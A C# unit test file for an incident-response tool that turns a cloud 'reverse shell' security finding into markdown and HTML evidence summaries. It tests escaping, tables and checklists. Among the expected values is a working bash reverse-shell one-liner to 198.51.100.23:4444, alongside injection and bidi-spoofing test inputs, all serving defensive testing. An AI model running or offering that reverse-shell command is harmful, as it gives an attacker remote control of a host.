using System.Text.RegularExpressions;
using ReverseShellFunction.Bundle;
using ReverseShellFunction.Collection;
using ReverseShellFunction.Delivery;
using ReverseShellFunction.Report;
using ReverseShellFunction.Tests.Support;

namespace ReverseShellFunction.Tests.Bundle;

public class SummaryMarkdownTest
{
    [Fact]
    public void Report_HasEveryFactTheResponderNeeds()
    {
        var summary = SummaryBuilder.Build(
            BundleId.For("organizations/1/sources/2/findings/f", DateTimeOffset.UnixEpoch),
            NotificationDecoder.Parse(TestData.Sample("reverse-shell.notification.json"), PipelineHarness.Now),
            [],
            DateTimeOffset.UnixEpoch);

        var md = SummaryMarkdown.Render(summary, []);

        foreach (var expected in new[]
        {
            "198.51.100.23:4444", "10.8.0.12:51834", "/bin/bash", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1",
            "https://www.virustotal.com/gui/file/d7f1c0b3a5e2e6f4c1b8a9d0e3f2a1b4c5d6e7f8091a2b3c4d5e6f708192a3b4",
            "/usr/local/bin/node (pid 2790)", "checkout-api", "europe-west1", "shop-prod-4471", "602115830917",
            "sha256:3f9a1c7e5b2d4f6a8c0e1b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3a", "CRITICAL",
            "[T1059 Command and Scripting Interpreter](https://attack.mitre.org/techniques/T1059/)",
            "[T1105 Ingress Tool Transfer](https://attack.mitre.org/techniques/T1105/)", "TA0002",
        })
        {
            Assert.Contains(expected, md, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void HostileArguments_CannotBreakOutOfCodeSpans()
    {
        var code = SummaryMarkdown.Code("a``b`\n[link](http://evil)");

        Assert.StartsWith("``` ", code, StringComparison.Ordinal);
        Assert.EndsWith(" ```", code, StringComparison.Ordinal);
        Assert.DoesNotContain('\n', code);
        Assert.Equal(@"\[x\](y) \<script\>", SummaryMarkdown.Plain("[x](y) <script>"));
    }

    [Theory]
    [InlineData("d7f1c0b3a5e2e6f4c1b8a9d0e3f2a1b4c5d6e7f8091a2b3c4d5e6f708192a3b4", true)]
    [InlineData("../../evil", false)]
    [InlineData("d7f1c0b3a5e2e6f4c1b8a9d0e3f2a1b4c5d6e7f8091a2b3c4d5e6f708192a3b", false)]
    [InlineData(null, false)]
    public void VirusTotalLink_OnlyForAWellFormedSha256(string? sha256, bool linked)
    {
        Assert.Equal(linked, SummaryBuilder.VirusTotalUrl(sha256) is not null);
    }

    [Fact]
    public void ApiErrorReasonWithAPipe_IsEscapedOnce_TableKeepsItsColumns()
    {
        var summary = Sample([new CollectorReport { Name = "cloud-run", Status = CollectorStatus.Failed, Reason = "403 PERMISSION_DENIED: denied | try again" }]);

        var md = SummaryMarkdown.Render(summary, []);

        var row = md.Split('\n').Single(l => l.StartsWith("| cloud-run |", StringComparison.Ordinal));
        Assert.Contains(@"denied \| try again", row, StringComparison.Ordinal);
        Assert.DoesNotContain(@"\\|", row, StringComparison.Ordinal);

        // Six columns: seven cell delimiters, none of them the escaped one.
        Assert.Equal(7, Regex.Count(row, @"(?<!\\)\|"));
    }

    [Fact]
    public void BidiAndFormatCharacters_AreShownEscaped_InMarkdownAndHtml()
    {
        // U+202E RIGHT-TO-LEFT OVERRIDE would show "/bin/\u202eexe.hs" as "/bin/sh.exe"; U+200B hides, ESC drives a terminal.
        var hostile = "/tmp/\u202eexe.hs\u200b\u001b[31m";
        var summary = Sample([new CollectorReport { Name = "container-logs", Status = CollectorStatus.Partial, Reason = "page 2: \u202eliaf" }]);
        summary = summary with
        {
            Processes = [summary.Processes[0] with { BinaryPath = hostile, Args = ["sh", "-c", "echo \u2066hidden\u2069"] }],
            Workload = new WorkloadFacts("rev-\u202e1", "finding", [], null, null, "sa\u200d@x", null, null, null, null, 0),
        };
        summary = summary with { Headline = SummaryHeadline.Of(summary) };

        var md = SummaryMarkdown.Render(summary, []);
        var html = SummaryHtml.Render(summary, [], new EvidenceTimeline { EventTime = summary.Finding.EventTime }, PartCustody.Unsealed(1));

        foreach (var text in new[] { md, html })
        {
            foreach (var c in new[] { '\u202e', '\u200b', '\u001b', '\u2066', '\u2069', '\u200d' })
            {
                Assert.DoesNotContain(c, text);
            }

            Assert.Contains(@"\u202eexe.hs\u200b\u001b", text, StringComparison.Ordinal);
            Assert.Contains(@"\u2066hidden\u2069", text, StringComparison.Ordinal);
        }

        // The headline names the hostile binary too, escaped in the first line of both files.
        Assert.Contains(@"/tmp/\\u202eexe.hs", md.Split('\n')[2], StringComparison.Ordinal);
        Assert.Contains(@"<h1 id=""headline"">", html, StringComparison.Ordinal);
    }

    [Fact]
    public void FirstLine_IsTheState_ThenTheHeadline_AndWhatIsMissingComesBeforeTheWorkload()
    {
        var summary = Sample([
            new CollectorReport { Name = "cloud-run", Status = CollectorStatus.Failed, Reason = "403 PERMISSION_DENIED: no" },
            new CollectorReport { Name = "container-logs", Status = CollectorStatus.Ok, ItemCount = 10000, Truncated = true },
        ]);

        var md = SummaryMarkdown.Render(summary, []);

        // Not checked against SCC, a collector failed, one truncated: all of it in the first line, in the state words.
        Assert.StartsWith(
            "**State: unchecked; incomplete (cloud-run: failed (403 PERMISSION\\_DENIED: no), truncated at its cap: container-logs). The finding could not be checked against SCC",
            md.Split('\n')[0],
            StringComparison.Ordinal);
        Assert.Equal(
            "# CRITICAL Reverse Shell on service checkout-api (project shop-prod-4471, europe-west1) at 2026-11-28 21:14:07 UTC: /bin/bash → 198.51.100.23:4444",
            md.Split('\n')[2]);
        var missing = md.IndexOf("## Missing or not to be trusted", StringComparison.Ordinal);
        Assert.True(missing > 0 && missing < md.IndexOf("## Workload as it ran", StringComparison.Ordinal));
        Assert.Contains("- **cloud-run** failed: its evidence is missing — 403 PERMISSION\\_DENIED: no", md, StringComparison.Ordinal);
        Assert.Contains("- **container-logs** ok but truncated at its cap (10000 items kept)", md, StringComparison.Ordinal);
    }

    [Fact]
    public void Checklist_NamesOnlyEntriesTheBundleHas()
    {
        var summary = Sample([]);

        var without = SummaryMarkdown.Render(summary, ["notification.json"]);
        var with = SummaryMarkdown.Render(summary, ["notification.json", "related-findings.json", "logs/audit.jsonl", "cloud-run/service.json"]);

        foreach (var file in new[] { "related-findings.json", "logs/container.jsonl", "logs/audit.jsonl", "cloud-run/", "timeline.jsonl" })
        {
            Assert.DoesNotContain(file, without, StringComparison.Ordinal);
        }

        Assert.Contains("` related-findings.json `", with, StringComparison.Ordinal);
        Assert.Contains("` logs/audit.jsonl `", with, StringComparison.Ordinal);
        Assert.Contains("` cloud-run/service.json `", with, StringComparison.Ordinal);
        Assert.DoesNotContain("logs/container.jsonl", with, StringComparison.Ordinal);
    }

    private static EvidenceSummary Sample(IReadOnlyList<CollectorReport> collectors) =>
        SummaryBuilder.Build(
            BundleId.For("organizations/1/sources/2/findings/f", DateTimeOffset.UnixEpoch),
            NotificationDecoder.Parse(TestData.Sample("reverse-shell.notification.json"), ReverseShellFunction.Tests.Support.PipelineHarness.Now),
            collectors,
            DateTimeOffset.UnixEpoch);
}
